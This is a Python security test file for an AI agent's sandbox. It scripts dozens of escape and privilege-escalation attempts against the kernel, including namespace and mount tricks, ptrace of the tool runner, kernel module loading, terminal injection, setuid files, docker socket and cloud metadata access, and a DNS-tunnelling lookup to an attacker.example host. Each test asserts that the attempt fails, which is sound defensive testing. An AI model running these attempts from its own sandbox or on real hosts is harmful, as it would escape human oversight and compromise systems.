"""An agent turns to the kernel: system calls, namespaces, devices, privileges. It gets nothing."""

import asyncio
import os
import socket
from pathlib import Path

import pytest

from corral.hands.sandbox.provider import SandboxLost
from tests.security.attempts import got_nothing, marker, try_it
from tests.unit.hands.sandbox.given import hands
from tests.unit.hands.sandbox.watched import seconds, until_running

ATTACKS = {
    "a_new_user_namespace_to_be_root_in": """
        attempt('unshare', lambda: call('unshare', 0x10000000) == 0)
        attempt('clone', lambda: call('clone', 0x10000000 | 17, 0, 0, 0, 0))
        attempt('clone3', lambda: call('clone3', 0, 0))
    """,
    "each_other_kind_of_namespace": """
        for flag in (0x80, 0x20000, 0x02000000, 0x04000000, 0x08000000, 0x20000000, 0x40000000):
            attempt(hex(flag), lambda: call('unshare', flag) == 0)
    """,
    "entering_the_namespaces_of_process_1": """
        for name in os.listdir('/proc/1/ns'):
            def enter():
                return call('setns', os.open('/proc/1/ns/' + name, os.O_RDONLY), 0) == 0
            attempt(name, enter)
    """,
    "mounting_over_what_is_read_only": """
        attempt('remount', lambda: call('mount', b'none', b'/usr', b'', 32 | 4096, 0) == 0)
        attempt('bind', lambda: call('mount', b'/workspace', b'/usr', b'', 4096, 0) == 0)
        attempt('proc', lambda: call('mount', b'proc', b'/workspace', b'proc', 0, 0) == 0)
        attempt('umount', lambda: call('umount2', b'/usr', 2) == 0)
        attempt('fsopen', lambda: call('fsopen', b'tmpfs', 0))
        attempt('open_tree', lambda: call('open_tree', -100, b'/usr', 1))
        attempt('mount_setattr', lambda: call('mount_setattr', -100, b'/usr', 0, 0, 0) == 0)
    """,
    "another_root": """
        os.makedirs('/workspace/root/old', exist_ok=True)
        attempt('pivot', lambda: call('pivot_root', b'/workspace/root', b'/workspace/root/old') == 0)
        attempt('chroot', lambda: call('chroot', b'/workspace/root') == 0)
    """,
    "tracing_the_program_that_runs_the_tools": """
        for pid in (1, os.getppid(), int(open('/proc/%d/stat' % os.getppid()).read().split()[3])):
            attempt('attach %d' % pid, lambda: call('ptrace', 16, pid, 0, 0) == 0)
            attempt('seize %d' % pid, lambda: call('ptrace', 0x4206, pid, 0, 0) == 0)
    """,
    "reading_and_writing_the_memory_of_others_by_system_call": """
        buffer = ctypes.create_string_buffer(64)
        here = struct.pack('QQ', ctypes.addressof(buffer), 64)
        attempt('readv', lambda: call('process_vm_readv', 1, here, 1, here, 1, 0))
        attempt('writev', lambda: call('process_vm_writev', 1, here, 1, here, 1, 0))
        attempt('kcmp', lambda: call('kcmp', 1, os.getpid(), 0, 0, 0))
        if hasattr(os, 'pidfd_open'):
            attempt('getfd', lambda: call('pidfd_getfd', os.pidfd_open(1), 0, 0))
    """,
    "the_kernels_faultiest_doors": """
        zeros = ctypes.create_string_buffer(256)
        attempt('bpf', lambda: call('bpf', 0, zeros, 64))
        attempt('perf', lambda: call('perf_event_open', zeros, 0, -1, -1, 0))
        attempt('userfaultfd', lambda: call('userfaultfd', 1))
        attempt('io_uring', lambda: call('io_uring_setup', 8, zeros))
        attempt('keyctl', lambda: call('keyctl', 0, -3, 1))
        attempt('add_key', lambda: call('add_key', b'user', b'mine', b'x', 1, -3))
        attempt('request_key', lambda: call('request_key', b'user', b'mine', 0, -3))
        attempt('fanotify', lambda: call('fanotify_init', 0, 0))
        attempt('quotactl', lambda: call('quotactl', 0x800007, b'/dev/null', 0, zeros) == 0)
    """,
    "loading_code_into_the_kernel": """
        zeros = ctypes.create_string_buffer(256)
        attempt('init_module', lambda: call('init_module', zeros, 256, b'') == 0)
        attempt('finit_module', lambda: call('finit_module', os.open(sys.argv[0], 0), b'', 0) == 0)
        attempt('delete_module', lambda: call('delete_module', b'ext4', 0) == 0)
        attempt('kexec', lambda: call('kexec_load', 0, 0, 0, 0) == 0)
        attempt('kexec_file', lambda: call('kexec_file_load', 0, 0, 0, b'', 0) == 0)
    """,
    "files_by_handle": """
        handle = ctypes.create_string_buffer(struct.pack('II', 128, 0) + bytes(128))
        mount = ctypes.c_int()
        attempt('name', lambda: call('name_to_handle_at', -100, b'/workspace', handle, ctypes.byref(mount), 0) == 0)
        handle[:8] = struct.pack('II', 8, 1)
        handle[8:16] = struct.pack('II', 2, 0)
        attempt('open', lambda: call('open_by_handle_at', os.open('/workspace', 0), handle, 0))
    """,
    "the_clock_the_host_name_and_the_power_switch": """
        now = struct.pack('qq', 1, 0)
        attempt('settimeofday', lambda: call('settimeofday', now, 0) == 0)
        attempt('clock_settime', lambda: call('clock_settime', 0, now) == 0)
        attempt('adjtimex', lambda: call('adjtimex', ctypes.create_string_buffer(512)))
        attempt('hostname', lambda: call('sethostname', b'evil', 4) == 0)
        attempt('reboot', lambda: call('reboot', 0xfee1dead, 672274793, 0, 0) == 0)
        attempt('swapon', lambda: call('swapon', b'/workspace/attack.py', 0) == 0)
        attempt('acct', lambda: call('acct', b'/workspace/attack.py') == 0)
        attempt('dmesg', lambda: call('syslog', 3, ctypes.create_string_buffer(4096), 4096))
    """,
    "device_files": """
        for name in ('mem', 'kmem', 'port', 'kmsg', 'sda', 'vda', 'fuse', 'kvm', 'net/tun', 'userfaultfd', 'vsock',
                     'vhost-vsock', 'loop0', 'loop-control', 'mapper/control', 'btrfs-control', 'uinput', 'tty0'):
            attempt(name, lambda: os.open('/dev/' + name, os.O_RDONLY))
        for kind, number in ((stat.S_IFCHR, os.makedev(1, 1)), (stat.S_IFBLK, os.makedev(254, 0)),
                             (stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFCHR, os.makedev(10, 229))):
            attempt('mknod', lambda: os.mknod('/workspace/device', kind | 0o666, number) or 'made')
            attempt('mknod in memory', lambda: os.mknod('/tmp/device', kind | 0o666, number) or 'made')
    """,
    "changing_the_device_files_that_are_there": """
        for name in ('null', 'zero', 'full', 'random', 'urandom', 'tty'):
            attempt('chmod ' + name, lambda: os.chmod('/dev/' + name, 0) or 'done')
            attempt('unlink ' + name, lambda: os.unlink('/dev/' + name) or 'done')
    """,
    "typing_into_the_operators_terminal": """
        for descriptor in range(10):
            attempt('TIOCSTI', lambda: fcntl.ioctl(descriptor, 0x5412, b'x'))
            attempt('TIOCLINUX', lambda: fcntl.ioctl(descriptor, 0x541C, b'\\x03'))
        attempt('controlling terminal', lambda: os.open('/dev/tty', os.O_RDWR))
        primary, secondary = os.openpty()
        attempt('own terminal, with high bits set',
                lambda: libc.ioctl(secondary, ctypes.c_ulong(0xFFFFFFFF00005412), b'x') == 0)
    """,
    "kernel_sockets": """
        for protocol in range(1, 23):  # all netlink families but the one that lists interfaces
            attempt('netlink %d' % protocol, lambda: socket.socket(16, socket.SOCK_RAW, protocol))
        for family in (3, 4, 5, 9, 17, 21, 26, 29, 30, 31, 33, 35, 37, 38, 39, 40, 41, 42, 43, 44):
            attempt('family %d' % family, lambda: socket.socket(family, socket.SOCK_STREAM))
            attempt('datagrams of family %d' % family, lambda: socket.socket(family, socket.SOCK_DGRAM))
            attempt('a pair of family %d' % family, lambda: socket.socketpair(family, socket.SOCK_DGRAM))
        attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 768))
        attempt('raw', lambda: socket.socket(2, socket.SOCK_RAW, 1))
        attempt('raw 6', lambda: socket.socket(10, socket.SOCK_RAW, 58))
    """,
    "the_virtual_machines_host_by_vsock": """
        attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
        attempt('vsock datagrams', lambda: socket.socket(40, socket.SOCK_DGRAM))
        attempt('a pair', lambda: socket.socketpair(40, socket.SOCK_STREAM))
    """,
    "raising_limits": """
        for name in ('DATA', 'NPROC', 'FSIZE', 'NOFILE', 'CORE'):
            which = getattr(resource, 'RLIMIT_' + name)
            attempt(name, lambda: resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2) or 'raised')
        attempt('nice', lambda: os.nice(-5))
        attempt('real time', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or 'given')
        attempt('out of memory score', lambda: open('/proc/self/oom_score_adj', 'w').write('-1000') and None
                if False else libc.write(os.open('/proc/self/oom_score_adj', 1), b'-1000', 5))
    """,
    "becoming_another_user": """
        attempt('setuid', lambda: os.setuid(0) or 'root')
        attempt('setgid', lambda: os.setgid(0) or 'root')
        attempt('groups', lambda: os.setgroups([0]) or 'root')
        attempt('uid_map', lambda: open('/proc/self/uid_map', 'w').write('0 0 1') and open('/proc/self/uid_map', 'w').close())
        attempt('chown', lambda: os.chown('/workspace/attack.py', 0, 0) or 'given')
    """,
    "files_that_raise_whoever_runs_them_on_the_host": """
        def mode(path):
            return oct(os.stat(path).st_mode) if os.stat(path).st_mode & 0o6000 else None
        def opened(mode):
            os.close(os.open('/workspace/risen', os.O_CREAT | os.O_WRONLY, mode))
        os.close(os.open('/workspace/plain', os.O_CREAT | os.O_WRONLY, 0o755))
        for bits in (0o4755, 0o2755, 0o6755):
            attempt('chmod', lambda: os.chmod('/workspace/plain', bits) or 'done')
            attempt('fchmod', lambda: os.chmod(os.open('/workspace/plain', 0), bits) or 'done')
            attempt('fchmodat2', lambda: call('fchmodat2', -100, b'/workspace/plain', bits, 0) == 0)
            attempt('open', lambda: opened(bits) or 'done')
            attempt('mknod', lambda: os.mknod('/workspace/node', stat.S_IFREG | bits) or 'done')
            how = struct.pack('QQQ', os.O_CREAT | os.O_WRONLY, bits, 0)
            attempt('openat2', lambda: call('openat2', -100, b'/workspace/how', how, 24))
        for name in os.listdir('/workspace'):
            attempt(name, lambda: mode('/workspace/' + name))
        os.umask(0)
        os.chmod('/workspace/plain', 0o1777)
    """,
    "setuid_programs": """
        found = [os.path.join(top, name) for top in ('/usr/bin', '/usr/sbin', '/bin') if os.path.isdir(top)
                 for name in os.listdir(top)]
        risen = [path for path in found if os.path.isfile(path) and os.stat(path).st_mode & 0o6000]
        for path in risen:
            run = subprocess.run([path, '-c', 'id -u'], stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
            attempt(path, lambda: 'root' if run.stdout.strip() == b'0' else None)
        attempt('nosuid', lambda: 'missing' if not os.statvfs('/usr').f_flag & os.ST_NOSUID else None)
        attempt('nosuid of the workspace',
                lambda: 'missing' if not os.statvfs('/workspace').f_flag & os.ST_NOSUID else None)
    """,
    "the_kernels_own_files": """
        for path in ('/proc/kcore', '/proc/kallsyms', '/proc/sysrq-trigger', '/proc/timer_list', '/proc/sched_debug',
                     '/proc/keys', '/proc/latency_stats', '/proc/acpi', '/proc/scsi', '/proc/1/auxv_'):
            def taken():
                with open(path, 'rb') as file:
                    return file.read(16).strip(b'0 ') or None
            attempt(path, taken) if path not in ('/proc/kallsyms', '/proc/keys') else None
        for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/overcommit_memory',
                     '/proc/sys/kernel/hostname', '/proc/sys/net/ipv4/ip_forward', '/proc/irq/0/smp_affinity',
                     '/proc/sysrq-trigger', '/proc/bus/pci/devices'):
            attempt('write ' + path, lambda: os.open(path, os.O_WRONLY))
        with open('/proc/kallsyms') as symbols:
            attempt('addresses', lambda: symbols.readline().split()[0].strip('0') or None)
    """,
    "control_groups": """
        attempt('a tree of them', lambda: os.listdir('/sys/fs/cgroup'))
        paths = [line.split(':', 2)[2].strip() for line in open('/proc/self/cgroup')]
        attempt('paths of the host', lambda: [path for path in paths if path != '/'] or None)
        attempt('mounts', lambda: [line for line in open('/proc/mounts') if 'cgroup' in line] or None)
    """,
    "calls_of_another_architecture": """
        # An x32 call, and a 32-bit call by int 0x80 in a child that may be ended for it.
        attempt('x32', lambda: libc.syscall(0x40000000 | 39) if platform.machine() == 'x86_64' else -1)
        code = b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3' if platform.machine() == 'x86_64' else None
        child = os.fork() if code else 0
        if code and child == 0:
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(code)
            ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
            os._exit(0)
        if code:
            attempt('int 0x80', lambda: os.waitpid(child, 0)[1] == 0)
    """,
    "undoing_the_filter": """
        attempt('no new privileges', lambda: libc.prctl(38, 0, 0, 0, 0) == 0)
        attempt('mode', lambda: None if open('/proc/self/status').read().split('Seccomp:')[1].split()[0] == '2' else 'off')
        attempt('dropping what others have', lambda: libc.prctl(24, 21, 0, 0, 0) == 0)
        attempt('ambient', lambda: libc.prctl(47, 2, 21, 0, 0) == 0)
        attempt('keep capabilities on', lambda: libc.prctl(28, 1 << 5, 0, 0, 0) == 0 and os.geteuid() == 0)
    """,
}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_the_kernel_gives_nothing(attack: str, open_folder: Path) -> None:
    async with hands(open_folder) as ours:
        printed = await try_it(ours, ATTACKS[attack])
        assert got_nothing(printed), printed


async def test_signals_reach_nobody_outside(open_folder: Path) -> None:
    async with hands(open_folder) as ours:
        bystander = await asyncio.create_subprocess_exec("sleep", seconds(87001))
        try:
            await until_running(f"sleep\0{seconds(87001)}")
            script = f"""
                for pid in ({bystander.pid}, {os.getpid()}, {os.getppid()}):
                    attempt(pid, lambda: os.kill(pid, 0) or 'reached' if not os.path.exists('/proc/%d' % pid) else None)
                attempt('group', lambda: os.killpg({os.getpgid(0)}, 9) or 'reached')
            """
            printed = await try_it(ours, script)
            with pytest.raises(SandboxLost):
                await ours.bash("kill -9 -1")
            assert got_nothing(printed), printed
            assert bystander.returncode is None
        finally:
            bystander.kill()
            await bystander.wait()


async def test_messages_between_processes_are_the_sandboxs_own(open_folder: Path) -> None:
    """System V shared memory, semaphores and queues, and POSIX ones, of the host cannot be seen."""
    import subprocess

    made = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, check=True).stdout
    number = made.split(":")[1].strip()
    try:
        async with hands(open_folder) as ours:
            seen = (await ours.bash("ipcs -a; ls /dev/shm /dev/mqueue 2>/dev/null")).text
            printed = await try_it(ours, f"attempt('attach', lambda: libc.shmat({number}, 0, 0o10000))")
    finally:
        subprocess.run(["ipcrm", "-m", number], check=True)
    assert number not in seen.split()
    assert got_nothing(printed), printed


async def test_a_socket_file_of_the_host_cannot_be_reached_through_what_is_shown(open_folder: Path) -> None:
    secret = marker(open_folder)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(open_folder / "socket"))
    listener.listen()
    (open_folder / "socket").chmod(0o777)
    with listener:
        async with hands(open_folder) as ours:
            script = f"""
                import glob
                paths = ['{open_folder}/socket', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket',
                         '/run/systemd/private', '/tmp/.X11-unix/X0', '/run/containerd/containerd.sock']
                for path in paths:
                    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path) or 'connected')
                attempt('a file', lambda: open('{secret}').read())
                where = [root + '{open_folder}/socket' for root in ('/proc/1/root', '/proc/self/root', '/proc/1/cwd/..')]
                for path in where:
                    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path) or 'connected')
            """
            printed = await try_it(ours, script)
    assert got_nothing(printed), printed


async def test_what_names_resolve_to_cannot_carry_a_secret_out(open_folder: Path) -> None:
    """DNS tunnelling: no resolver is known, none can be reached, and none listens inside."""
    script = """
        attempt('resolver', lambda: open('/etc/resolv.conf').read())
        attempt('lookup', lambda: socket.getaddrinfo('c2VjcmV0.attacker.example', 80))
        for server in ('127.0.0.53', '127.0.0.1', '8.8.8.8', '1.1.1.1', '169.254.169.253', '::1'):
            def ask():
                with socket.socket(10 if ':' in server else 2, socket.SOCK_DGRAM) as sender:
                    sender.settimeout(0.5)
                    sender.connect((server, 53))
                    sender.send(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x07example\\x00\\x00\\x01\\x00\\x01')
                    return sender.recv(512)
            attempt(server, ask)
    """
    async with hands(open_folder) as ours:
        printed = await try_it(ours, script)
    assert got_nothing(printed), printed


async def test_no_metadata_service_answers(open_folder: Path) -> None:
    script = """
        for where in ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254', '168.63.129.16',
                      '192.0.0.192'):
            def connect():
                with socket.socket(10 if ':' in where else 2, socket.SOCK_STREAM) as sender:
                    sender.settimeout(1)
                    return sender.connect((where, 80)) or 'reached'
            attempt(where, connect)
    """
    async with hands(open_folder) as ours:
        printed = await try_it(ours, script)
    assert got_nothing(printed), printed


async def test_a_crash_leaves_no_core_file(open_folder: Path) -> None:
    async with hands(open_folder) as ours:
        await ours.bash(
            "ulimit -c unlimited; cd /workspace; sh -c 'kill -SEGV $$'; sh -c 'kill -ABRT $$'; true"
        )
        left = (
            await ours.bash("find / -xdev -name 'core*' -type f -newer /workspace/.corral 2>/dev/null | head")
        ).text
    assert left == "(no output)"
